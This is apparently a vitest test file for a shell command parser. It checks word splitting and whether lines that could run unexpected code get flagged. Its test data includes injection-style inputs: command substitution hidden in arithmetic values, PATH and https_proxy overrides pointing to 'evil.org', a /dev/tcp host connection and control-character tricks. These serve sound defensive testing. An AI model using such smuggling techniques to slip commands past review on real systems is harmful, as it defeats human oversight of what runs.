import { describe, expect, test } from "vitest";
import { commandsIn } from "./shell.ts";
import type { Word } from "./shell-word.ts";

const wordsIn = (line: string): (readonly Word[])[] =>
  commandsIn(line, "linux").map(({ words }) => words);
const doubtsIn = (line: string, platform: NodeJS.Platform = "linux"): string[] =>
  commandsIn(line, platform).flatMap(({ unknown }) => (unknown === undefined ? [] : [unknown]));

describe("the words of a command line", () => {
  test.each<[string, (readonly Word[])[]]>([
    ['ls -la \'a b\' "c\\"d" e\\ f', [["ls", "-la", "a b", 'c"d', "e f"]]],
    ["l\\\ns a\\\n b", [["ls", "a", "b"]]],
    ["ls a#b #c", [["ls", "a#b"]]],
    ["ls # \\\ncat a", [["ls"], ["cat", "a"]]],
    [
      "ls *.ts {a,b} {} @{u} [ $x \"$x\" $'x'",
      [["ls", null, null, "{}", "@{u}", "[", null, null, null]],
    ],
    ["ls;cat a&&true||false|wc -l&", [["ls"], ["cat", "a"], ["true"], ["false"], ["wc", "-l"]]],
    ["if true; then ls; else cat a; fi", [["true"], ["ls"], ["cat", "a"]]],
    ["case a in (a|b) ls;; *) cat a; esac; pwd", [["ls"], ["cat", "a"], ["pwd"]]],
    ["for x in a b; do ls; done", [["ls"]]],
    ['echo "a $(cat b) `pwd`"', [["cat", "b"], ["pwd"], ["echo", null]]],
    ["cat <<A <<'B' && ls\n$(pwd)\nA\n$(wc)\nB\ntrue", [["cat"], ["ls"], ["pwd"], ["true"]]],
    ["cat <<-A\n\ta\\\n\tA\n\tA\nls", [["cat"], ["ls"]]],
    ["echo \"$(cat <<'A'\nit's (a\nA\n)\"", [["cat"], ["echo", "it's (a"]]],
    [
      "timeout -k 5 10 env -iu A B=1 ls a",
      [
        ["timeout", "-k", "5", "10", "env", "-iu", "A", "B=1", "ls", "a"],
        ["env", "-iu", "A", "B=1", "ls", "a"],
        ["ls", "a"],
      ],
    ],
    ["command -v git", [["command", "-v", "git"]]],
    ["ls | xargs -I% cp % b", [["ls"], ["xargs", "-I%", "cp", "%", "b"], ["cp", null, "b", null]]],
  ])("%j: %j", (line, words) => {
    expect(wordsIn(line).filter((one) => one.length > 0)).toEqual(words);
  });

  test("are those up to where it cannot be read, and a doubt", () => {
    expect(wordsIn("ls; cat a ) pwd")).toEqual([["ls"], ["cat", "a"], []]);
  });
});

describe("a command line that runs only what stands there", () => {
  test.each([
    '[ -f "$a" ] && [ "$a" = b ] || [ $# -gt 1 ]',
    "[[ $a == b && -n $c ]]",
    "[[ $a =~ ^[0-9]+$ ]]",
    "i=0; while [ $i -lt 5 ]; do i=$((i + 1)); done",
    `x=5; y=$x; echo $((x * y)) \${a:y}`,
    "for i in {1..3}; do echo $((i)); done",
    `echo \${a:-b} \${a%.ts} \${a//x/y} \${#a} \${a[0]} "\${a[@]}" \${a^^}`,
    "export NODE_ENV=test lower=$(pwd)",
    `a=(b 'c d' *.ts); echo "\${a[@]}"`,
    'while IFS= read -r line; do echo "$line"; done < a',
    "sleep 1 & pid=$!; wait $pid",
    "printf -v x '%s' a; unset x; set -euo pipefail",
  ])("%s", (line) => {
    expect(doubtsIn(line)).toEqual([]);
  });
});

describe("a command line that may run something else", () => {
  test.each<[string, string]>([
    ["x='a[$(ls)]'; echo $((x))", "it evaluates the value of x"],
    ["x=$y; y='a[$(ls)]'; echo $((x))", "it evaluates the value of x"],
    [`read x; echo \${a:x}`, "it evaluates the value of x"],
    ["x='a[$(ls)]' bash -c 'echo $((x))'", "it evaluates the value of x"],
    ["echo $((PWD))", "it evaluates the value of PWD"],
    ['[ -v "$x" ]', "it may evaluate the name of a variable"],
    ["x=$(ls); [ $x = a ]", "it evaluates the value of x"],
    ["[[ -v $x ]]", "it evaluates the name that it looks for"],
    [`echo \${!x}`, "it reads a variable that another one names"],
    [`echo \${x@P}`, "it evaluates the value of x"],
    ['export "PATH=$x"', "what it declares is not known"],
    ["export 'PATH=d'", "it sets PATH, which can change what runs"],
    ["for PATH in d; do ls; done", "it sets PATH, which can change what runs"],
    ["echo $((PATH = 1))", "it sets PATH, which can change what runs"],
    [`: \${PATH:=d}`, "it sets PATH, which can change what runs"],
    ["https_proxy=evil.org ls", "it sets https_proxy, which can change what runs"],
    ["env -iq ls", "which program it is, is known only when it runs"],
    ["env -u $x ls", "which program it is, is known only when it runs"],
    ["xargs --unknown ls", "which program it is, is known only when it runs"],
    ["bash -lc ls", "what the shell is given to run is not known"],
    ["zsh -c ls", "what the shell is given to run is not known"],
    ["sh -c 'ls &> a cat'", "not every shell knows &>"],
    ["sh -c 'x=$y; export a=$x'", "what it declares is not known"],
    ["cat 1>&'$(ls)'2", "it evaluates '$(ls)'2 a second time"],
    ["cat <&$x", "it evaluates $x a second time"],
    ["sh -c '[[ a && b ]]'", "not every shell knows [["],
    ["echo a\r#; ls", "there are control characters in it"],
    ["ls > /dev/tcp/example.org/80", "it connects to a host"],
    ['wait "-px[$(ls)]"', "wait may set a variable"],
    ["find . -exec true $x ls \\;", "with these arguments find can run anything"],
  ])("%s: %s", (line, doubt) => {
    expect(doubtsIn(line)).toContain(doubt);
  });
});

test.each([
  "(",
  "$(",
  `\${a:-`,
  '"$(',
  "<(",
  "$((",
  "{",
  "[",
  "{,",
  "a=(",
  "`",
  "\\\n",
  "if ",
  "<<A\n",
])(
  "a line of nothing but %j is refused, or read, in time",
  (text) => {
    for (const start of ["", "echo ", "cat <<EOF\n"]) {
      const line = start + text.repeat(90_000 / text.length);
      expect(commandsIn(line)).toBeInstanceOf(Array);
    }
  },
  5000,
);
